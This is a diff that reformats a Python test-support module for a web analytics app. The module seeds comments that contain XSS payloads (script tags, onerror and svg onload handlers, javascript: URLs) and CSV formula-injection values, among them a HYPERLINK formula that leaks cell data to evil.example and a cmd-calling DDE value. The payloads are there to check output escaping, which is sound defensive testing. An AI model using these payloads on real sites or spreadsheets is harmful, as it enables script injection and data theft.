@@ -17,18 +17,23 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+
 from test_api_support import PASSWORD, Seeded, seed_rows, write_store
 
 #: comment texts that run script if any page fails to escape them
 XSS = [
     "<script>window.__xss = 1</script>",
-    "<img src=x onerror=\"window.__xss = 2\">",
-    "<a href=\"javascript:window.__xss = 3\">click me</a>",
+    '<img src=x onerror="window.__xss = 2">',
+    '<a href="javascript:window.__xss = 3">click me</a>',
     "javascript:window.__xss = 4",
-    "\"><svg onload=\"window.__xss = 5\">",
+    '"><svg onload="window.__xss = 5">',
     "</script><script>window.__xss = 6</script>",
-    "=HYPERLINK(\"http://evil.example/?\"&A1, \"win\")",
-    "+SUM(1,2)", "-2+3", "@cmd", "\tTABBED", "\rCARRIAGE",
+    '=HYPERLINK("http://evil.example/?"&A1, "win")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+    "\tTABBED",
+    "\rCARRIAGE",
     "<script>alert('xss')</script>",
 ]
 XSS_POST = "xss-post"
@@ -50,19 +55,38 @@ def ingest_hostile(store_path: Path, folder: Path) -> None:
     from engagelens.store import Store
     from engagelens.text.store_analysis import analyze_store
 
-    post = [{"platform": "instagram", "content_id": XSS_POST, "account_id": "a_instagram",
-             "created_at": "2024-03-05T09:00:00", "kind": "photo", "campaign": "=cmd|' /C calc'!A0",
-             "text": "<b>bold?</b> <script>window.__xss = 8</script>", "url": XSS_POST_URL}]
-    comments = [{"platform": "instagram", "interaction_id": f"xss-{k}", "content_id": XSS_POST,
-                 "account_id": "a_instagram", "actor_id": f"<i>attacker{k}</i>",
-                 "kind": "comment", "occurred_at": f"2024-03-05T10:{k:02d}:00", "text": text}
-                for k, text in enumerate(XSS)]
+    post = [
+        {
+            "platform": "instagram",
+            "content_id": XSS_POST,
+            "account_id": "a_instagram",
+            "created_at": "2024-03-05T09:00:00",
+            "kind": "photo",
+            "campaign": "=cmd|' /C calc'!A0",
+            "text": "<b>bold?</b> <script>window.__xss = 8</script>",
+            "url": XSS_POST_URL,
+        }
+    ]
+    comments = [
+        {
+            "platform": "instagram",
+            "interaction_id": f"xss-{k}",
+            "content_id": XSS_POST,
+            "account_id": "a_instagram",
+            "actor_id": f"<i>attacker{k}</i>",
+            "kind": "comment",
+            "occurred_at": f"2024-03-05T10:{k:02d}:00",
+            "text": text,
+        }
+        for k, text in enumerate(XSS)
+    ]
     (folder / "content.csv").write_bytes(_csv(post))
     (folder / "interaction.csv").write_bytes(_csv(comments))
     with Store.open(store_path) as store:
         for entity in ("content", "interaction"):
-            summary = ingest_file(store, folder / f"{entity}.csv", source="canonical",
-                                  entity=entity)
+            summary = ingest_file(
+                store, folder / f"{entity}.csv", source="canonical", entity=entity
+            )
             assert summary.rows_quarantined == 0 and summary.rows_stored > 0, summary
         analyze_store(store)
 
@@ -85,22 +109,25 @@ def build_data(data_dir: Path) -> tuple[Seeded, dict[str, str]]:
     write_store(control.workspace_path("acme"), acme)
     write_store(control.workspace_path("beta"), seed_rows("b", 6, shared_id="a0"))
     ingest_hostile(control.workspace_path("acme"), data_dir)
-    control.create_user("alice", PASSWORD)   # analyst in acme only
+    control.create_user("alice", PASSWORD)  # analyst in acme only
     control.grant("alice", "acme", "analyst")
     control.create_user("victor", PASSWORD)  # viewer in acme
     control.grant("victor", "acme", "viewer")
-    control.create_user("bob", PASSWORD)     # beta only
+    control.create_user("bob", PASSWORD)  # beta only
     control.grant("bob", "beta", "admin")
-    tokens = {"acme_viewer": control.create_token("acme", "viewer", "web tests").token,
-              "beta_admin": control.create_token("beta", "admin", "web tests").token}
+    tokens = {
+        "acme_viewer": control.create_token("acme", "viewer", "web tests").token,
+        "beta_admin": control.create_token("beta", "admin", "web tests").token,
+    }
     return acme, tokens
 
 
 def make_app(data_dir: Path) -> Any:
     from engagelens.api import create_app
 
-    return create_app(data_dir, settings={"api_rate_limit_per_minute": 1_000_000,
-                                          "token_cache_ttl_s": 0.0})
+    return create_app(
+        data_dir, settings={"api_rate_limit_per_minute": 1_000_000, "token_cache_ttl_s": 0.0}
+    )
 
 
 _CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
@@ -129,8 +156,7 @@ class Browser:
     def csrf(self, path: str = "/login") -> str:
         return csrf_of(self.get(path).text)
 
-    def post(self, path: str, data: dict[str, str], *, csrf_from: str = "/login"
-             ) -> httpx.Response:
+    def post(self, path: str, data: dict[str, str], *, csrf_from: str = "/login") -> httpx.Response:
         return self.client.post(path, data={"csrf_token": self.csrf(csrf_from), **data})
 
     def login(self, username: str = "alice", password: str = PASSWORD) -> httpx.Response:
@@ -140,5 +166,14 @@ class Browser:
         return self.post("/login", {"token": token})
 
 
-__all__ = ["Browser", "WebEnv", "XSS", "XSS_POST", "XSS_POST_URL", "build_data", "csrf_of",
-           "ingest_hostile", "make_app"]
+__all__ = [
+    "XSS",
+    "XSS_POST",
+    "XSS_POST_URL",
+    "Browser",
+    "WebEnv",
+    "build_data",
+    "csrf_of",
+    "ingest_hostile",
+    "make_app",
+]
